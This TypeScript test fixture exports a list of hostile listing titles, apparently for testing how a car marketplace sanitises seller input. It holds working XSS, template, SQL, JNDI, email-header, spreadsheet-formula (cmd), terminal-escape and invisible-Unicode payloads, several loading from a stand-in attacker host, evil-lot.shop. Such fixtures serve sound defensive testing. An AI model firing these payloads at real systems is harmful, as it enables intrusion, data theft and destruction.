const RUN = 'window.ran=1';
const HOME = 'https://evil-lot.shop/x';

const markup = [
  `<script>${RUN}</script>`,
  `<script src=${HOME}.js></script>`,
  `</title></textarea></style><script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=${HOME}.png>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<body onload=${RUN}>`,
  `<iframe src="javascript:parent.ran=1"></iframe>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<object data="${HOME}.swf"></object>`,
  `<embed src="${HOME}.swf">`,
  `<link rel=stylesheet href=${HOME}.css>`,
  `<style>@import "${HOME}.css";*{display:none}</style>`,
  `<meta http-equiv=refresh content="0;url=${HOME}">`,
  `<base href="${HOME}/">`,
  `<form action=${HOME}><input name=password></form>`,
  `<button formaction="javascript:${RUN}">Sign in</button>`,
  `<a href="javascript:${RUN}">View on Marketplace</a>`,
  `<a href="data:text/html,<script>opener.ran=1</script>" target=_blank>here</a>`,
  `<details open ontoggle=${RUN}>`,
  `<marquee onstart=${RUN}>SALE</marquee>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<math href="javascript:${RUN}">click</math>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<table background="${HOME}.png"><td>`,
  `<div style="position:fixed;inset:0;background:red">over all</div>`,
  `<div style="background:url(${HOME}.png)">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<x onclick=${RUN} onmouseover=${RUN}>hover</x>`,
  `<ScRiPt >${RUN}</sCrIpT >`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
];

/** Titles that become markup only when they are decoded once or twice. */
const encoded = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `&#x3c;svg onload=${RUN}&#x3e;`,
  `&lt;img src=${HOME}.png&gt;`,
  `&lt;b&gt;bold&lt;/b&gt;&lt;h1&gt;large&lt;/h1&gt;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${RUN}`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `＜script＞${RUN}＜/script＞`,
  `‹script›${RUN}‹/script›`,
];

const quotes = [
  `" onmouseover="${RUN}`,
  `' onmouseover='${RUN}`,
  `"><script>${RUN}</script>`,
  `'><img src=x onerror=${RUN}>`,
  `\` onmouseover=${RUN} \``,
  `"; ${RUN}; "`,
  `'-${RUN}-'`,
  `\\"; ${RUN}//`,
];

const addresses = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}//`,
  `java\tscript:${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  HOME,
  `//evil-lot.shop/x`,
  `[View on Marketplace](${HOME})`,
  `![](${HOME}.png)`,
];

const templates = [
  '{{7*7}}',
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `#{7*7}`,
  `<%= 7*7 %>`,
  `{% include '/etc/passwd' %}`,
  `%s%s%s%n%x`,
  `{0} {title} {{title}} %title%`,
  `$& $1 $\` $'`,
  `\${jndi:ldap://evil-lot.shop/x}`,
];

const databases = [
  `'; drop table listings; --`,
  `' or '1'='1`,
  `1); select pg_sleep(9); --`,
  `\\'; delete from users; --`,
  `%' or title like '%`,
  `{"$gt": ""}`,
  `__proto__`,
];

const lines = [
  `a\r\nBcc: all@evil-lot.shop\r\n\r\nHello`,
  `a\nSubject: You have won`,
  `a\r\nContent-Type: text/html\r\n\r\n<script>${RUN}</script>`,
  `a\u2028b\u2029c\u0085d`,
  `a\u000bb\u000cc`,
  `=HYPERLINK("${HOME}","Click")`,
  `=cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|'x'!A0`,
];

const terminals = [
  `\u001b[31mred\u001b[2J\u001b[H`,
  `\u009b31mred`,
  `\u001b]0;title\u0007`,
  `a\u0008\u0008\u0008b`,
  `a\u007fb`,
];

const unseen = [
  'a\u0000b\u0000',
  '\u202Egnp.exe\u202C',
  '\u2066\u2067\u2068never closed',
  '\u200b\u200c\u200d\u2060\ufeff'.repeat(20),
  'f\u200br\u200be\u200be',
  '\u00ad'.repeat(100),
  '\u3164\u115f\u1160',
  '\ud83d half of one',
  '\ufffe\uffff\ufdd0',
  '\u{e0041}\u{e0042}\u{e007f}',
];

const wide = [
  'W'.repeat(470),
  '👩‍👩‍👧‍👦🏳️‍🌈🚗💨'.repeat(15),
  'Z̴̛̹͎̺̻a̷̗͙̤͒͛̈l̵̢̛̦̘̫͛g̸̨̛͉̫͚̈́o̶̢͎͈̹͗'.repeat(8),
  '﷽'.repeat(60),
  'سيارة للبيع בחינם '.repeat(10),
  '極めて良好な状態のスポーツカー'.repeat(15),
  'ﷺ\u0489\u20dd'.repeat(40),
  '\u{1d56b}\u{1f1fa}\u{1f1f8}'.repeat(40),
];

const rest = [`${'<b>'.repeat(100)}deep`, `<a${' a'.repeat(200)}>`, `&${'amp;'.repeat(100)}lt;script&gt;`];

/** Texts that a seller may write after the name of a car to attack a reader, a mail program or an operator. */
export const hostileTitles: readonly string[] = [
  ...markup,
  ...encoded,
  ...quotes,
  ...addresses,
  ...templates,
  ...databases,
  ...lines,
  ...terminals,
  ...unseen,
  ...wide,
  ...rest,
];
